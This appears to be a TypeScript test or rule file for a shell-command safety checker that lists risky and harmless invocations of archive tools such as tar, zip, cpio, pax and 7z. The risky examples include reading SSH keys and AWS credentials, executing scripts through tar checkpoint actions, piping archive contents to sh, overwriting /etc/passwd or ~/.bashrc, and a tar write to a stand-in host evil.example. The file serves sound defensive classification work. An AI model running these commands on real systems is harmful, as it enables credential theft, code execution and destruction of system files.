import { family, type Tool, tool } from "../tool-shape.ts";
import { tar } from "./tar.ts";
import { cpio, pax, sevenZip, unzip, zip } from "./unpacking.ts";

/** Tools that pack files into one and unpack them. */
export const ARCHIVES: readonly Tool[] = family("everything", [
  tool("tar bsdtar star", {
    by: tar,
    examples: {
      "read-home": ["tar czf - ~", "tar cf a.tar -C / home"],
      "run-helper": [
        "tar xf a.tar --to-command=./x.sh",
        "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=./x.sh src",
      ],
      "write-vital": ["tar xf a.tar -C /etc", "tar cf /etc/passwd src"],
      "write-unknown": ["tar -xPf a.tar"],
      "delete-vital": ["tar cf a.tar --remove-files /etc"],
      leak: ["tar czf evil.example:/x src"],
      "run-decoded": ["tar xOf a.tar | sh"],
      fine: ["tar czf a.tgz src", "tar tf a.tar", "tar -I zstd -xf a.tar.zst -C build"],
    },
  }),
  tool("zip", {
    by: zip,
    examples: {
      "run-helper": ["zip a.zip a.txt -TT ./x.sh"],
      "write-startup": ["zip ~/.bashrc a.txt"],
      "read-secret": ["zip a.zip ~/.ssh/id_rsa"],
      "delete-vital": ["zip -m a.zip /etc"],
      fine: ["zip -r a.zip src"],
    },
  }),
  tool("unzip bsdunzip", {
    by: unzip,
    examples: {
      "write-vital": ["unzip a.zip -d /etc"],
      "run-decoded": ["unzip -p a.zip | sh"],
      fine: ["unzip -l a.zip", "unzip a.zip -d build"],
    },
  }),
  tool("pax", {
    by: pax,
    examples: {
      "read-secret": ["pax -w ~/.aws", "echo ~/.netrc | pax -w"],
      "write-vital": ["pax -rw src /etc", "pax -w -f /etc/passwd src"],
      fine: ["pax -w -f a.tar src", "pax -r -f a.tar", "pax -f a.tar"],
    },
  }),
  tool("cpio", {
    by: cpio,
    examples: {
      "read-secret": ["echo ~/.ssh/id_rsa | cpio -o"],
      "run-helper": ["cpio -i --rsh-command=./x.sh"],
      "write-vital": ["cpio -i -D /etc", "cpio -o -F /etc/passwd"],
      fine: ["cpio -t", "cpio -i -D build"],
    },
  }),
  tool("unrar rar", {
    by: sevenZip,
    examples: {
      "write-vital": ["unrar x a.rar /etc/"],
      fine: ["unrar l a.rar", "unrar x a.rar build/"],
    },
  }),
  tool("7z 7za 7zz 7zr p7zip", {
    by: sevenZip,
    examples: {
      "delete-home": ["7z a -sdel build/a.7z ~/Documents"],
      "write-vital": ["7z x a.7z -o/etc", "7z a /etc/passwd src"],
      "read-home": ["7z a a.7z ~"],
      fine: ["7z l a.7z", "7z x a.7z -obuild"],
    },
  }),
  tool("ar ranlib strip objcopy", {
    operands: "edits",
    options: { loads: "-plugin --plugin" },
    examples: {
      "write-vital": ["ar /usr/lib/libc.so"],
      "run-foreign": ["ar --plugin /tmp/x.so rcs liba.a"],
      fine: ["ar rcs build/liba.a a.o", 'ar rcs "$OUT" a.o'],
    },
  }),
  tool("patchelf", {
    operands: "edits",
    examples: { "write-vital": ["patchelf --set-rpath x /usr/lib/libc.so"], fine: ['patchelf --print-rpath "$BIN"'] },
  }),
]);
